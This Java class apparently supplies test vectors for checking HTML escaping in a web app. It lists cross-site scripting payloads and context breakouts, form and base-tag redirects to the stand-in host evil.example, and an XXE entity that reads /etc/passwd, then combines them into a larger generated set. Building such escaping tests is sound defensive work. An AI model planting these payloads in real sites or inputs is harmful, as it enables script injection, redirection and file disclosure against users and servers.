package org.isnad.web;

import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;

/** Texts that run a script or leave their place where a page does not escape them. */
final class Vectors {
    private static final List<String> WRITTEN = List.of(
            "<script>alert(1)</script>",
            "\"><script>alert(2)</script>",
            "'><img src=x onerror=alert(3)>",
            "</title><script>alert(4)</script>",
            "<svg onload=alert(5)>",
            "<svg/onload=alert(6)//",
            "\" onmouseover=\"alert(7)",
            "' onfocus='alert(8)' autofocus='",
            "<img src=\"javascript:alert(9)\">",
            "<iframe srcdoc=\"<script>alert(10)</script>\">",
            "</style><script>alert(11)</script>",
            "<style>@import url(//evil.example)</style>",
            "<base href=//evil.example>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<link rel=stylesheet href=//evil.example>",
            "<a href=javascript:alert(12)>x</a>",
            "<form action=//evil.example><button>x</button></form>",
            "<math><mtext><mglyph><style><img src=x onerror=alert(13)>",
            "<!--><script>alert(14)</script>-->",
            "--><script>alert(15)</script>",
            "]]><script>alert(16)</script>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(17)>\">",
            "<details open ontoggle=alert(18)>",
            "<input autofocus onfocus=alert(19)>",
            "<video><source onerror=alert(20)>",
            "<marquee onstart=alert(21)>",
            "<object data=data:text/html,<script>alert(22)</script>>",
            "<embed src=//evil.example>",
            "&lt;script&gt;alert(23)&lt;/script&gt;",
            "&#60;script&#62;alert(24)&#60;/script&#62;",
            "<ScRiPt>alert(25)</sCrIpT>",
            "<script\u0000>alert(26)</script>",
            "\u202e<script>alert(27)</script>",
            "${7*7}<x>{{7*7}}</x>@{7*7}",
            "</template></main></body><script>alert(28)</script>");

    /** Ways out of where a text stands: an attribute, an element, a comment, a script, a style, XML's sections, a URL. */
    private static final List<String> WAYS_OUT = List.of(
            "",
            "\">",
            "'>",
            "`>",
            "</title>",
            "</textarea>",
            "</script>",
            "</style>",
            "-->",
            "]]>",
            "\" x=\"",
            "</svg></math>");

    /** What then runs a script or loads something. */
    private static final List<String> DEEDS = List.of(
            "<script>alert(%d)</script>",
            "<img src=x onerror=alert(%d)>",
            "<svg><animate onbegin=alert(%d) attributeName=x dur=1s>",
            "<a href=\"jav&#x09;ascript:alert(%d)\">x</a>",
            "<a href=\"data:text/html,<script>alert(%d)</script>\">x</a>",
            "<body onload=alert(%d)>",
            "<iframe src=javascript:alert(%d)>",
            "<button popovertarget=x onbeforetoggle=alert(%d)>",
            "<style>*{background:url(//evil.example/%d)}</style>",
            "<link rel=preload as=image href=//evil.example/%d>",
            "<form id=x action=//evil.example/%d><input type=submit>",
            "<xss id=x tabindex=1 onfocus=alert(%d)>",
            "<?xml-stylesheet href=\"javascript:alert(%d)\"?>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;%d",
            "javascript:alert(%d)");

    /** Those written by hand, then every deed behind every way out. */
    static final List<String> ALL = Stream.concat(WRITTEN.stream(), made()).toList();

    private static Stream<String> made() {
        int[] number = {100};
        return WAYS_OUT.stream()
                .flatMap(out -> DEEDS.stream().map(deed -> out + String.format(Locale.ROOT, deed, number[0]++)));
    }

    private Vectors() {}
}
